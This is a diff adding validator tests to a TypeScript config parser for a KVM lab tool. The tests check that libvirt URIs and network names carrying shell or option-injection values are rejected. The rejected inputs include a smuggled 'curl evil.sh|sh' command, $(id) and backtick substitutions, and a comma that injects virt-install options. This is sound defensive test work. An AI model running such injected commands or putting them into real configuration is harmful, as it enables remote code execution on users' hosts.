@@ -494,6 +494,28 @@ const cases: { name: string; yaml: string; expected: Expected[] }[] = [
     ]],
   },
   {
+    name: "kvm.uri with shell metacharacters (printed in doctor's fix commands)",
+    yaml: "kvm:\n  uri: 'qemu:///system; curl evil.sh|sh'\n" + VMS,
+    expected: [[
+      2,
+      8,
+      "kvm.uri",
+      '"kvm.uri" must be a libvirt URI such as "qemu:///system" or "qemu+ssh://user@host/system", found "qemu:///system; curl evil.sh|sh"',
+      "driver[+transport]://[user@][host][:port]/path[?name=value&…]: no spaces, quotes, commas or shell characters",
+    ]],
+  },
+  {
+    name: "kvm.libvirt-network with a comma (injects virt-install --network options)",
+    yaml: "kvm:\n  libvirt-network: default,type=direct,source=eth0\n" + VMS,
+    expected: [[
+      2,
+      20,
+      "kvm.libvirt-network",
+      '"kvm.libvirt-network" must be a libvirt network name (letters, digits, ".", "_", "-", at most 64), found "default,type=direct,source=eth0"',
+      "List the networks with: virsh net-list --all",
+    ]],
+  },
+  {
     name: "several problems at once, sorted by position",
     yaml: "virt: kvmm\nk8s:\n  kube-proxy: 3\nvms:\n- name: A\n",
     expected: [
@@ -560,6 +582,45 @@ Deno.test("config: the built-in default equals the original's defaults", () => {
   });
   assertEquals(config.versions.kubernetes, "v1.35.0");
   assertEquals(config.source, { file: "<built-in>", dir: "/x", builtIn: true });
+});
+
+Deno.test("config: kvm.uri and kvm.libvirt-network take what libvirt writes, nothing a shell reads", () => {
+  const good = [
+    "qemu:///system",
+    "qemu:///session",
+    "qemu+ssh://root@kvm.lab:2222/system",
+    "qemu+ssh://user@[fe80::1]/system?keyfile=/home/u/.ssh/id&no_verify=1",
+    "qemu+unix:///system?socket=/run/libvirt/libvirt-sock",
+    "test:///default",
+  ];
+  for (const uri of good) {
+    const c = parseConfig(`kvm:\n  uri: '${uri}'\n${VMS}`, { ...opts, allowTestDrivers: false });
+    assertEquals(c.config.kvm.uri, uri);
+  }
+  const bad = [
+    "qemu:///system`id`",
+    "qemu:///system $(id)",
+    "qemu:///system'",
+    'qemu:///system"',
+    "qemu:///system,x",
+    "qemu+ssh://a;b@host/system",
+    "qemu:///system\nrm",
+    "qemu://",
+    "/system",
+    "qemu:///system?a=1&&b",
+  ];
+  for (const uri of bad) {
+    const issues = issuesOf(`kvm:\n  uri: ${JSON.stringify(uri)}\n${VMS}`);
+    assertEquals(issues.map((i) => i[2]), ["kvm.uri"], uri);
+  }
+  for (const name of ["default", "dtk-net_2.lab"]) {
+    const c = parseConfig(`kvm:\n  libvirt-network: ${name}\n${VMS}`, { ...opts });
+    assertEquals(c.config.kvm.libvirtNetwork, name);
+  }
+  for (const name of ["a,b", "a b", "-x", "a;b", "a/b", "a=b", "x".repeat(65), "$(id)"]) {
+    const issues = issuesOf(`kvm:\n  libvirt-network: ${JSON.stringify(name)}\n${VMS}`);
+    assertEquals(issues.map((i) => i[2]), ["kvm.libvirt-network"], name);
+  }
 });
 
 Deno.test("config: an empty file means every default", () => {
